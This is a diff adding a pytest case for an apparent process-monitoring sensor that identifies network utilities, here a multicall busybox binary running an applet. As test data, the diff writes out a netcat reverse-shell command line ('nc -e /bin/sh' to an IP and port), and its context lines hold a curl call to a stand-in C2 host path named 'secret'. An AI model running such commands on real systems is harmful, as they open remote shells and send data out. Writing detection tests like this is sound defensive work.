@@ -147,3 +147,16 @@ def test_renaming_itself_and_rewriting_argv_after_exec_changes_nothing(sensor: S
         proc.wait(timeout=10)
     assert row["utility"] == "curl" and row["comm"] == "curl"
     assert row["cmdline"] == f"{script} https://c2.example.test/secret"
+
+
+def test_a_multicall_binary_running_an_applet_is_that_utility(sensor: Sensor, rows: Collector) -> None:
+    outside = Path(tempfile.mkdtemp(prefix="netutil-", dir="/var/lib"))   # not a forwarded directory
+    try:
+        busybox = write_executable(outside / "busybox", tiny_elf())
+        pid = run(str(busybox), [b"busybox", b"nc", b"-e", b"/bin/sh", b"10.0.0.1", b"4444"])
+        row = row_of(rows, pid)
+        assert row["utility"] == "netcat" and row["comm"] == "busybox" and row["ip_args"] == "10.0.0.1"
+        pid = run(str(busybox), [b"busybox", b"ls"])
+        assert not rows.wait_for(lambda r: r["pid"] == pid, timeout=1.0)   # not a network utility
+    finally:
+        shutil.rmtree(outside, ignore_errors=True)
